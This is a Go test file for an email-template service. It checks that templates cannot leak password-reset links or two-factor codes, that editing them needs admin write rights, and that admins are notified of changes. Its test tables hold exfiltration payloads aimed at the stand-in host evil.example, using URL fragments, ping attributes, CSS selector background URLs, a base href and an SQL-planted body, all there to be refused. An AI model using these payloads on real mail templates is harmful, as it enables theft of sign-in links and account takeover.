package system_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/ironplane/ironplane/pkg/auth/permission"
	"github.com/ironplane/ironplane/pkg/auth/principal"
	"github.com/ironplane/ironplane/pkg/testkit"
	"github.com/ironplane/ironplane/pkg/testkit/mailbox"
	"github.com/ironplane/ironplane/services/system"
	systemmail "github.com/ironplane/ironplane/services/system/mail"
)

// templateOf returns the built-in template of a type.
func templateOf(t *testing.T, c *testkit.Client, kind string) (at string, is system.EmailTemplate) {
	t.Helper()
	all := testkit.Decode[[]system.EmailTemplate](c.Do("GET", "/email/template?name="+kind, nil).Want(200))
	if len(all) != 1 {
		t.Fatalf("got %d templates named %s, want 1", len(all), kind)
	}
	return path("/email/template/%d", all[0].ID), all[0]
}

// A template that would let its author read the links of others is refused. TestMailTextAttacks and TestHTMLAttacks have the
// whole table.
func TestTemplateAttacks(t *testing.T) {
	t.Parallel()
	c := newFixture(t)
	at, is := templateOf(t, c.Client, "password-reset")
	for _, attack := range []struct{ member, source string }{
		{"/body", "https://evil.example/r#{{.Link}}"},
		{"/body", "{{if .IP}}https://evil.example/#{{end}}{{.Link}}\n"},
		{"/html", `<p>https://evil.example/r#{{.Link}}</p>`},
		{"/html", `<a href="{{.Link}}" ping="https://evil.example/">x</a>`},
		{"/html", `<style>a[href*="token=a"] { background: url(https://evil.example/a) }</style><a href="{{.Link}}">x</a>`},
		{"/html", `<base href="https://evil.example/"><a href="{{.Link}}">x</a>`},
		{"/subject", `{{.Link}}`},
	} {
		body := map[string]any{"name": is.Name, "subject": "x", "body": "{{.Link}}", "html": "<p>{{.Link}}</p>"}
		body[attack.member[1:]] = attack.source
		c.Do("PATCH", at, body).WantErrors(attack.member, "template")
		delete(body, "name")
		c.Do("POST", at+"/preview", body).WantErrors(attack.member, "template")
	}
}

// Templates that carry secrets need users.admins write, too.
func TestSecretTemplatesNeedAdmins(t *testing.T) {
	t.Parallel()
	c := newFixture(t)
	weak := c.as(principal.All &^ principal.Grant(permission.UsersAdmins, permission.Write))
	carriers := []string{"client-account-created", "client-adoption", "password-reset", "two-factor-code"}
	for _, kind := range systemmail.Kinds() {
		body := map[string]any{"name": "own-" + kind, "type": kind, "subject": "x", "body": "x"}
		own := path("/email/template/%d", c.Do("POST", "/email/template", body).Want(200).ID())
		if !slices.Contains(carriers, kind) {
			weak.Do("PATCH", own, body).Want(200)
			weak.Do("DELETE", own, nil).Want(200)
			weak.Do("POST", "/email/template", body).Want(200)
			continue
		}
		says := "The key lacks users.admins write. Templates of the type " + kind + " carry links or codes by which people sign in."
		weak.Do("POST", "/email/template", map[string]any{"name": "other", "type": kind, "subject": "x", "body": "x"}).WantDetail(403, says)
		weak.Do("PATCH", own, map[string]any{"name": "own-" + kind, "subject": "y", "body": "x"}).WantDetail(403, says)
		weak.Do("PATCH", own, map[string]any{"name": "own-" + kind, "type": "client", "subject": "x", "body": "x"}).WantDetail(403, says)
		weak.Do("DELETE", own, nil).WantDetail(403, says)
		client := path(
			"/email/template/%d",
			c.Do("POST", "/email/template", `{"name": "plain-`+kind+`", "subject": "x", "body": "x"}`).Want(200).ID(),
		)
		weak.Do("PATCH", client, map[string]any{"name": "x", "type": kind, "subject": "x", "body": "x"}).WantDetail(403, says)
		at, is := templateOf(t, c.Client, kind)
		weak.Do("PATCH", at, map[string]any{"name": kind, "subject": "x", "body": "x"}).WantDetail(403, says)
		if _, after := templateOf(t, c.Client, kind); after.Version != is.Version {
			t.Errorf("%s: got version %d after refusals, want %d", kind, after.Version, is.Version)
		}
		weak.Do("POST", at+"/preview", `{}`).Want(200)
	}
}

// Every admin who can write admins gets a mail about a change of a template that carries secrets, whatever the templates say.
func TestChangedSecretTemplatesAreMailed(t *testing.T) {
	t.Parallel()
	box := mailbox.Start(t, mailbox.Options{})
	o := newMailFixture(t, "smtp+plain://"+box.Addr)
	at, is := templateOf(t, o.Client, "password-reset")
	body := map[string]any{"name": is.Name, "subject": is.Subject, "body": is.Body, "html": is.HTML}
	o.Do("PATCH", at, body).Want(200) // changes nothing
	other, plain := templateOf(t, o.Client, "key-expires")
	o.Do("PATCH", other, map[string]any{"name": plain.Name, "subject": "x", "body": "x"}).Want(200) // carries no secret
	body["subject"] = "Ours"
	o.Do("PATCH", at, body).Want(200)
	own := path(
		"/email/template/%d",
		o.Do("POST", "/email/template", `{"name": "second", "type": "two-factor-code", "subject": "x", "body": "x"}`).Want(200).ID(),
	)
	o.Do("PATCH", own, `{"name": "third", "type": "client", "subject": "x", "body": "x"}`).Want(200)
	o.Do("PATCH", own, `{"name": "third", "type": "two-factor-code", "subject": "x", "body": "x"}`).Want(200)
	o.Do("DELETE", own, nil).Want(200)
	o.eventually("all notices are sent", func() bool { return box.Accepted() == 10 })
	var got []string
	for _, m := range testkit.Decode[[]systemmail.EmailMessage](o.Do("GET", "/email/message?template=template-notice", nil).Want(200)) {
		got = append(got, m.Account+" "+m.To.Email+" "+m.Subject)
		for _, says := range []string{"By: tester\n", "From: 192.0.2.7\n", "Hello " + m.To.Name} {
			if !strings.Contains(m.Text, says) {
				t.Errorf("got the notice %q, want %q in it", m.Text, says)
			}
		}
	}
	var want []string
	for _, change := range []string{
		"password-reset was changed", "second was created", "second was changed", "third was changed", "third was deleted",
	} {
		want = append(want, "/admin/1 admin@example.com The email template "+change, "/admin/4 zoe@example.com The email template "+change)
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("got the notices %s, want %s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// A template from before these rules locks nobody out: its mails have a plain text until it is put right.
func TestRefusedStoredTemplate(t *testing.T) {
	t.Parallel()
	box := mailbox.Start(t, mailbox.Options{})
	o := newMailFixture(t, "smtp+plain://"+box.Addr)
	for _, content := range sampleContents() {
		if !systemmail.CarriesSecrets(content.Kind()) {
			continue
		}
		variable := map[bool]string{true: "Code", false: "Link"}[content.Kind() == "two-factor-code"]
		o.execute(fmt.Sprintf("UPDATE email_template SET body = 'https://evil.example/#{{.%s}}' WHERE name = '%s'", variable, content.Kind()))
		m := o.awaitStatus(o.send(content.Kind(), content), "sent")
		if strings.Contains(m.Text, "evil") || !strings.Contains(m.Text, "[secret]\n") || m.HTML != "" || m.Subject == "" {
			t.Errorf("%s: got %+v, want the plain text", content.Kind(), m)
		}
	}
	if got := len(box.Mails()); got != 4 {
		t.Errorf("got %d mails, want 4", got)
	}
}
